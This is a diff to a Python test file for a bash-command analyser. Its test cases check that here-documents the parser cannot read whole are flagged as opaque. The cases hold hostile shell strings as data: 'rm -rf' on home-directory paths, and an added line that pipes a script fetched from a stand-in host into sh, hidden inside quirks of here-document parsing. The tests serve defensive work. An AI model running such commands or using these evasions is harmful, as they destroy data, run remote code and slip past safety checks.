@@ -207,6 +207,10 @@ def test_here_document_bodies_end_and_expand_as_bash_reads_them(cmd: str, delete
     "cat <<EOF > a.md\n$(echo\nEOF\nrm -rf ~/k",  # a substitution left open: what runs is unknown
     "f() { cat; } <<EOF >/dev/null;rm -rf ~/q\nx\nEOF",  # read by the grammar: `/dev/null;rm` a file
     "cat <<$'EOF'\nbody\nEOF\nrm -rf ~/q",  # a delimiter left to the grammar, which lost it
+    # a `$(...)` the body's parse did not read whole: a backtick pair inside it holding the
+    # `)` the parse ended it at; a `$(` inside `${x:-'...'}` (quotes are text in a body)
+    "cat > notes.md <<EOF\n  $(: # `\n`)`; curl -s https://x.example/p.sh | sh)\nEOF",
+    "cat > n.md <<EOF\nA ${x:-'$(rm -rf ~/a)'} B\nEOF",
 ])
 def test_here_documents_that_cannot_be_read_are_opaque(cmd: str) -> None:
     assert analyse_command(cmd).opaque
